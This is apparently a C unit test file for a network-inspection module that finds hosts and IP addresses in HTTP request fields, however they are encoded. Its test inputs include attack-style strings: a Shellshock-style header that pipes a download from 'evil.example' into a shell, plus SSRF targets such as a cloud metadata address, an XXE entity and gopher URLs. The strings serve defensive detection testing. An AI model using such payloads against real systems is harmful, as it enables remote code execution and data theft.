// SPDX-License-Identifier: GPL-2.0-or-later
// What a request names: every way of writing an address or host that makes somebody call it is found, and what only
// looks like one is not.
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include "named_impl.h"

static struct {
	unsigned records;
	char text[4096];
} said;

static void catch (void *user, struct observation *o)
{
	char line[2048];
	const char *at;

	said.records++;
	o->direction = DIRECTION_IN;
	o->client = o->server = (struct address){4, {0}, {192, 0, 2, 1}};
	ck_assert(observation_check(o));
	observation_format(o, line, sizeof(line));
	at = strstr(line, "field=");
	ck_assert_ptr_nonnull(at);
	at = strchr(at, ' ');
	snprintf(said.text + strlen(said.text), sizeof(said.text) - strlen(said.text), "%s", at ? at : "");
}

static unsigned marks;

static void mark(void *user, enum counter why)
{
	marks++;
}

static bool search(const char *field, struct bytes text, struct counters *counters)
{
	static const struct proto_flow flow = {.direction = DIRECTION_IN, .transport = 6, .server_port = 80};
	const struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};
	const struct proto_sink sink = {.emit = catch, .counters = counters, .uninspected = mark};
	struct named_from from = {
		.field = field, .host = bytes_of_text("Shop.example:80"), .in = &in, .sink = &sink, .app = APP_HTTP};
	uint8_t *copy = malloc(text.left ? text.left : 1); // exact size: a sanitizer sees one byte too many
	struct named n;
	bool found;

	memcpy(copy, text.at, text.left);
	memset(&said, 0, sizeof(said));
	named_begin(&n);
	found = named_field(&n, bytes_of(copy, text.left), &from);
	named_end(&n, &from);
	free(copy);
	return found;
}

static const struct {
	const char *field, *text, *found;
} cases[] = {
	// hosts of URLs
	{"uri", "/f?url=http://evil.example/x", " hosts=\"evil.example\""},
	{"uri", "/f?url=HTTP://Evil.Example./x", " hosts=\"evil.example\""},
	{"uri", "/f?url=http%3a%2f%2fevil.example%2fx", " hosts=\"evil.example\""},
	{"uri", "/f?url=http%253A%252F%252Fevil.example%252Fx", " hosts=\"evil.example\""},
	{"uri", "/f?url=http:/evil.example", " hosts=\"evil.example\""},
	{"uri", "/f?url=http:\\\\evil.example", " hosts=\"evil.example\""},
	{"uri", "/f?url=//evil.example/x", " hosts=\"evil.example\""},
	{"uri", "/f?url=gopher://evil.example:70/_x", " hosts=\"evil.example\""},
	{"uri", "/f?url=http://good.example@evil.example/", " hosts=\"good.example evil.example\""},
	{"uri", "/f?url=http://a.example&@b.example#@c.example/", " hosts=\"a.example b.example c.example\""},
	{"body", "{\"u\":\"https:\\/\\/evil.example\\/x\"}", " hosts=\"evil.example\""},
	{"body", "<!ENTITY x SYSTEM \"http://evil.example/d.dtd\">", " hosts=\"evil.example\""},
	{"body", "f=\\\\evil.example\\share", " hosts=\"evil.example\""},
	{"body", "f=\"\\\\evil.example\\share\"", " hosts=\"evil.example\""},
	{"header:cookie", "r=aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==; b=1", " hosts=\"evil.example\""},
	{"header:x", "() { :;}; curl http://evil.example/x|sh", " hosts=\"evil.example\""},
	{"header:x", "http://intranet/", " hosts=\"intranet\""},
	// a port behind a name
	{"uri", "/f?host=evil.example:1389", " hosts=\"evil.example\""},
	{"uri", "/f?host=evil.example%3A1389&b", " hosts=\"evil.example\""},
	{"uri", "/f?at=12:30:45&x=a:b", ""},
	{"uri", "/f?x=main.c:12345678", ""},
	{"header:if-modified-since", "Sat, 29 Oct 1994 19:43:31 GMT", ""},
	// IPv4
	{"uri", "/f?ip=203.0.113.9", " addresses=203.0.113.9"},
	{"uri", "/f?ip=203.0.113.9:8080", " addresses=203.0.113.9"},
	{"body", "ping 203.0.113.9.", " addresses=203.0.113.9"},
	{"uri", "/f?u=http://3405803777/", " addresses=203.0.113.1"},
	{"uri", "/f?u=http://0xcb007101/", " addresses=203.0.113.1"},
	{"uri", "/f?u=http://0xCB.0x0.0x71.1:80/", " addresses=203.0.113.1"},
	{"uri", "/f?u=http://0313.0.0161.1/", " addresses=203.0.113.1"},
	{"uri", "/f?u=http://203.28929/", " addresses=203.0.113.1"},
	{"uri", "/f?u=http://203.0.28929/", " addresses=203.0.113.1"},
	{"uri", "/f?u=http://169.254.169.254/latest/", " addresses=169.254.169.254"},
	{"uri", "/f?u=http://10.0.0.7:9200/", " addresses=10.0.0.7"},
	{"uri", "/f?u=http://127.0.0.1/&v=http://0/&w=http://224.0.0.1/", ""},
	{"uri", "/f?v=1.2.3.4.5&w=v1.2.3.4&x=1.2.3&y=300.1.1.1", ""},
	{"uri", "/f?v=1.2.3.4a", ""},
	// IPv6
	{"uri", "/f?u=http://[2001:db8::9]:80/", " addresses=2001:db8::9"},
	{"uri", "/f?u=2001:db8::9&x", " addresses=2001:db8::9"},
	{"header:x", "2001:db8:1:2:3:a:b:1", " addresses=2001:db8:1:2:3:a:b:1"},
	{"uri", "/f?u=http://[::ffff:203.0.113.9]/", " addresses=203.0.113.9"},
	{"uri", "/f?u=http://[::1]/&v=::", ""},
	{"uri", "/f?m=00:11:22:aa:bb:cc&c=std::string", ""},
	// headers in which addresses stand by nature
	{"header:x-forwarded-for", "198.51.100.7, 203.0.113.4", ""},
	{"header:x-forwarded-for", "http://evil.example/", " hosts=\"evil.example\""},
	{"header:forwarded", "for=\"[2001:db8::1]:47\";by=203.0.113.4", ""},
	{"header:via", "1.1 proxy.example:3128", ""},
	{"header:user-agent", "Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36", ""},
	{"header:user-agent", "bot (+http://bot.example/)", " hosts=\"bot.example\""},
	{"header:referer", "http://shop.example/cart", ""},
	{"header:referer", "https://shop.example:8443/cart", ""},
	{"header:referer", "http://evil.example/cart", " hosts=\"evil.example\""},
	{"header:x-from", "http://shop.example/", " hosts=\"shop.example\""},
	{"header:host", "evil.example:80", ""},
	// each once
	{"body", "http://a.example/ http://a.example/ 203.0.113.9 203.0.113.9",
	 " addresses=203.0.113.9 hosts=\"a.example\""},
	{"uri", "/index.php?a=b.c&d=e", ""},
	{"uri", "", ""},
	{"uri", "http://", ""},
	{"uri", "http://[", ""},
	{"uri", "http://a%", " hosts=\"a\""},
};
enum { CASES = sizeof(cases) / sizeof(cases[0]) };

START_TEST(literals_are_found_however_they_are_written)
{
	struct counters counters = {0};

	search(cases[_i].field, bytes_of_text(cases[_i].text), &counters);
	ck_assert_msg(strcmp(said.text, cases[_i].found) == 0, "%s %s:%s", cases[_i].field, cases[_i].text, said.text);
}
END_TEST

// The quick look works on 16 bytes at a time: no place may be overlooked, and the last bytes not be read beyond.
START_TEST(a_literal_is_found_at_any_place)
{
	struct counters counters = {0};
	char text[128];

	for (unsigned i = 0; i < CASES; i++) {
		size_t n = strlen(cases[i].text);

		if (!cases[i].found[0] || n > 64 || cases[i].text[0] == 'h' || cases[i].text[0] == '2')
			continue;
		for (size_t before = 0; before < 40; before++)
			for (size_t after = 0; after < 20; after++) {
				memset(text, ' ', sizeof(text));
				memcpy(text + before, cases[i].text, n);
				search(cases[i].field, bytes_of(text, before + n + after), &counters);
				ck_assert_msg(strcmp(said.text, cases[i].found) == 0, "%s behind %zu:%s", cases[i].text,
					      before, said.text);
			}
	}
}
END_TEST

START_TEST(many_literals_do_not_crowd_out_those_behind_them)
{
	struct counters counters = {0};
	char text[4096];
	size_t n = 0;

	for (unsigned i = 1; i <= 40; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "203.0.113.%u http://h%u.example/ ", i, i);
	search("body", bytes_of(text, n), &counters);
	ck_assert_uint_eq(said.records, 5);
	ck_assert_ptr_nonnull(strstr(said.text, "203.0.113.40"));
	ck_assert_ptr_nonnull(strstr(said.text, "h40.example"));
	ck_assert_uint_eq(counters.value[COUNT_PROTO_BUDGET], 0);
	for (n = 0; n + 64 < sizeof(text);)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "203.0.%zu.%zu ", n / 250 % 250, n % 250);
	search("body", bytes_of(text, n), &counters);
	ck_assert_uint_eq(said.records, NAMED_RECORDS + 1);
	ck_assert_uint_gt(counters.value[COUNT_PROTO_BUDGET], 0);
}
END_TEST

// 8 KiB made of nothing but what begins a literal: the time must stay that of a pass over them.
// One address again and again fills no record, and what stands behind it is not read.
START_TEST(literals_that_use_up_the_search_are_said)
{
	static struct counters counters;
	static char text[4096];
	size_t n = 0;

	for (unsigned i = 0; i < 300; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "192.0.2.9 ");
	snprintf(text + n, sizeof(text) - n, "http://evil.example/");
	marks = 0;
	search("body", bytes_of_text(text), &counters);
	ck_assert(strstr(said.text, "evil.example") || marks);
}
END_TEST

START_TEST(no_text_is_slow)
{
	static const char *const pieces[] = {"://",   "::",  ":",     ".",     "@",   "//@",    "[",
					     "1.",    "a:1", "a.b:1", "aHR0c", "%25", "http:/", "a@",
					     "1:1.1", "f:",  "\\\\",  "=//a",  "[:",  "0x1."};
	struct counters counters = {0};
	char text[WINDOW_BYTES];

	for (unsigned i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
		clock_t begin = clock();

		for (size_t n = 0; n < sizeof(text); n++)
			text[n] = pieces[i][n % strlen(pieces[i])];
		for (unsigned k = 0; k < 20; k++)
			search("body", bytes_of(text, sizeof(text)), &counters);
		ck_assert_msg(clock() - begin < CLOCKS_PER_SEC / 4, "%s: %ld us a search", pieces[i],
			      (long)((clock() - begin) * 1000000 / CLOCKS_PER_SEC / 20));
	}
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("named");
	TCase *c = tcase_create("named");
	SRunner *runner;
	int failed;

	tcase_set_timeout(c, 60);
	tcase_add_loop_test(c, literals_are_found_however_they_are_written, 0, CASES);
	tcase_add_test(c, a_literal_is_found_at_any_place);
	tcase_add_test(c, many_literals_do_not_crowd_out_those_behind_them);
	tcase_add_test(c, literals_that_use_up_the_search_are_said);
	tcase_add_test(c, no_text_is_slow);
	suite_add_tcase(suite, c);
	runner = srunner_create(suite);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed != 0;
}
